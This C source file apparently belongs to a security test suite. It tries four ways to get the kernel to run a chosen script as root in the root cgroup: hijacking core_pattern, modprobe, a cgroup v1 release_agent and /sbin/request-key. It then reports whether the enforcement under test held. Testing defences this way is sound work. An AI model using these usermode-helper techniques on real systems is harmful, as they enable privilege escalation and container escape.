/*
 * Processes that the kernel itself starts as root, in the root cgroup. The helper is this program as `attacks -q …`, as
 * which the kernel also starts modprobe; it writes to RESULT what became of its load.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define RESULT "/tmp/helper-result"
#define SCRIPT "/tmp/helper"

void help(void)
{
	int program = load_unlisted(), error = program < 0 ? errno : 0;
	int file = open(RESULT ".new", O_WRONLY | O_CREAT | O_TRUNC, 0600);
	dprintf(file, "%d\n", error);
	close(file);
	rename(RESULT ".new", RESULT);
}

static void write_text(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);
	if (file < 0 || write(file, text, strlen(text)) < 0)
		held(path);
	close(file);
}

static void make_script(void)
{
	char program[256], text[512];
	ssize_t size = readlink("/proc/self/exe", program, sizeof program - 1);
	program[size > 0 ? size : 0] = 0;
	unlink(RESULT);
	int file = open(SCRIPT, O_WRONLY | O_CREAT | O_TRUNC, 0700);
	snprintf(text, sizeof text, "#!/bin/sh\nexec %s -q\n", program);
	if (write(file, text, strlen(text)) < 0)
		held("write of the helper");
	close(file);
}

static _Noreturn void end_with_result(const char *how)
{
	for (int round = 0; round < 200; round++) {
		FILE *file = fopen(RESULT, "r");
		int error;
		if (file && fscanf(file, "%d", &error) == 1) {
			if (error == 0)
				broken("%s loads an unlisted program", how);
			errno = error;
			held("load by the helper");
		}
		usleep(50000);
	}
	errno = ENOENT;
	held("the helper was not started");
}

static void core_pattern(void)
{
	make_script();
	write_text("/proc/sys/kernel/core_pattern", "|" SCRIPT);
	struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
	setrlimit(RLIMIT_CORE, &all);
	pid_t child = fork();
	if (child == 0)
		abort();
	waitpid(child, NULL, 0);
	write_text("/proc/sys/kernel/core_pattern", "core");
	end_with_result("the helper for core dumps");
}

static void modprobe(void)
{
	make_script();
	write_text("/proc/sys/kernel/modprobe", SCRIPT);
	/* families without code in the kernel; a module is asked for once for each */
	for (int family = 1; family < 45; family++)
		close(socket(family, SOCK_RAW, 0));
	write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
	end_with_result("the helper for modules");
}

static void release_agent(void)
{
	make_script();
	mkdir("/tmp/v1", 0700);
	if (mount("cgroup", "/tmp/v1", "cgroup", 0, "none,name=attack"))
		skipped("no cgroups of version 1");
	write_text("/tmp/v1/release_agent", SCRIPT);
	mkdir("/tmp/v1/a", 0700);
	write_text("/tmp/v1/a/notify_on_release", "1");
	pid_t child = fork();
	if (child == 0) {
		write_text("/tmp/v1/a/cgroup.procs", "0");
		_exit(0);
	}
	waitpid(child, NULL, 0);
	for (int round = 0; round < 100 && access(RESULT, F_OK); round++)
		usleep(50000);
	rmdir("/tmp/v1/a");
	umount2("/tmp/v1", MNT_DETACH);
	end_with_result("the release agent of a cgroup");
}

/* The kernel starts /sbin/request-key to have a key made that nobody has. */
static void request_key(void)
{
	make_script();
	mkdir("/sbin", 0755);
	if (symlink(SCRIPT, "/sbin/request-key"))
		held("symlink of /sbin/request-key");
	syscall(SYS_request_key, "user", "countersign-attack", "x", (long)KEY_SPEC_PROCESS_KEYRING);
	unlink("/sbin/request-key");
	end_with_result("the helper for keys");
}

const struct attack helper_attacks[] = {
    {"core-pattern", core_pattern},
    {"modprobe", modprobe},
    {"release-agent", release_agent},
    {"request-key", request_key},
    {0},
};
